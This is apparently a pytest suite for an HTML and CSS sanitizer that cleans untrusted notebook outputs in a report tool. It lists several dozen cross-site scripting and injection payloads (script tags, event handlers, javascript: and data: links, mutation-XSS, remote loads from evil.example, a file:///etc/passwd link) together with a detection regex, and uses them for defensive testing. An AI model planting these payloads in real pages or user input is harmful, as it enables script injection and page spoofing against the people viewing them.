"""Outputs of notebooks are not trusted: whatever is in them, nothing runs, loads, or paints over the page."""

from __future__ import annotations

import re
import time

import pytest

from migration_audit.report.prose import clean_css, clean_html, render_markdown

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script unclosed": "<script>alert(1)",
    "script nested": "<scr<script></script>ipt>alert(1)</script>",
    "script in svg": "<svg><script>alert(1)</script></svg>",
    "script in a comment": "<!--><script>alert(1)</script>-->",
    "handler": "<img src=x onerror=alert(1)>",
    "handler without blanks": "<details/open/ontoggle=alert(1)>x</details>",
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link in disguise": '<a href=" java&#x0A;script&colon;alert(1)">x</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "protocol-relative link": '<a href="//evil.example/x">x</a>',
    "local link": '<a href="file:///etc/passwd">x</a>',
    "remote image": '<img src="https://evil.example/x.png">',
    "image set": '<img srcset="https://evil.example/x.png 1x">',
    "html as image": '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    "frame": '<iframe src="https://evil.example"></iframe>',
    "frame with source": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example"></object><embed src="https://evil.example">',
    "style element": "<style>body{display:none}@import 'https://evil.example'</style>",
    "stylesheet": '<link rel="stylesheet" href="https://evil.example">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example"><input name=x><button>go</button></form>',
    "css url": '<p style="background:url(https://evil.example/x)">x</p>',
    "css url escaped": '<p style="background-color:u\\72l(https://evil.example/x)">x</p>',
    "css import by entity": '<p style="color:red;background&#58;url(https&#58;//evil.example)">x</p>',
    "css over the page": '<p style="position:fixed;inset:0;z-index:9999;background-color:white">clean</p>',
    "css important": '<p style="color:white !important">x</p>',
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    "template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "title breaks out": '<b title="</b><script>alert(1)</script>">x</b>',
    "anchor of the page": '<p id="findings" class="verdict pass">x</p>',
    "closing the page": "</section></main></body></html><h1>clean</h1>",
}
NEVER = re.compile(
    r"<(?!/?(?:a|b|br|code|dd|details|div|em|h[1-6]|hr|img|li|ol|p|pre|span|strong|summary|table|t[bdhr]\w*|ul)\b)"
    r"|<[^>]*\s(?:on\w+|id|class|srcset|srcdoc|data|action)\s*="
    r"|href=\"(?!https?://|mailto:|#|[\w.-]+\.ipynb)|src=\"(?!data:image/)|url\(|position|!important",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_nothing_harmful_is_left(attack):
    cleaned = clean_html(f"<div>before {attack} after</div>")
    assert not NEVER.search(re.sub(r'title="[^"]*"', "", cleaned))
    assert "before" in cleaned


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_cleaning_twice_changes_nothing(attack):
    once = clean_html(attack)
    assert clean_html(str(once)) == once


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_markdown_cells_are_cleaned_too(attack):
    assert not NEVER.search(re.sub(r'title="[^"]*"', "", render_markdown(f"text\n\n{attack}\n\ntext")))


def test_what_is_not_for_people_goes_with_its_text():
    assert clean_html("<p>a</p><style scoped>.x{}</style><script>b()</script><p>c</p>") == "<p>a</p><p>c</p>"


@pytest.mark.parametrize(
    "html",
    [
        '<table><thead><tr><th scope="col" colspan="2">a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>',
        '<del style="color:#82071e">64</del> <ins>255</ins>',
        "<details><summary>a</summary><pre>b</pre></details>",
        '<img alt="a" src="data:image/svg+xml;base64,AAAA">',
        '<a href="#x">x</a> <a href="20_live_catalog.ipynb#Y">y</a> <a href="https://www.postgresql.org/">z</a>',
    ],
)
def test_what_a_report_needs_stays(html):
    assert clean_html(html) == html


@pytest.mark.parametrize(
    ("css", "kept"),
    [
        ("color: red; padding:0 8px", "color:red;padding:0 8px"),
        ("position:absolute;color:red", "color:red"),
        ("color:expression(alert(1))", ""),
        ("font:12px 'x'", ""),
        ("margin:0 -9px;margin-top:-5px;margin-left:calc(-1px);padding:5px", "padding:5px"),
        ("", ""),
    ],
)
def test_css(css, kept):
    assert clean_css(css) == kept


@pytest.mark.parametrize(
    "piece",
    ["<script", "<script>", "<style ", "<div>", "<b>", "<p>", "<table>", "<td>", "</div>", "<!--", "&", "<b title='"],
)
def test_time_grows_with_the_input_alone(piece):
    start = time.perf_counter()
    clean_html(piece * 20_000)
    assert time.perf_counter() - start < 15


def test_html_nested_beyond_reason_is_shown_as_its_source():
    assert clean_html("<div>" * 1000).startswith("<pre>&lt;div&gt;")
    assert clean_html("<div>" * 50 + "x") == "<div>" * 50 + "x" + "</div>" * 50
